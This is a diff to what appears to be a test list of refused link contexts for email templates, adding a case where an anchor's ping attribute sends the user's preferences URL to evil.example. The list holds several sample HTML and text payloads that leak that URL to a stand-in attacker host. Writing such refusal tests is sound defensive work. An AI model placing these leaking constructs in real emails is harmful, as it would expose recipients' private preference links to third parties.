@@ -381,6 +381,7 @@ LINK_CONTEXTS_REFUSED = [
     ("html_body", '<!--[if mso]><v:image src="https://evil.example/{{ preferences_url }}"/>'),
     ("html_body", "<img src='https://evil.example/?<a href=\"{{ preferences_url }}\">'>"),
     ("html_body", "<p>https://evil.example/?u={{ preferences_url }}</p>"),
+    ("html_body", '<a href="{{ preferences_url }}" ping="https://evil.example/">here</a>'),
     ("text_body", "Win a prize: https://evil.example/?u={{ preferences_url }}"),
 ]
 
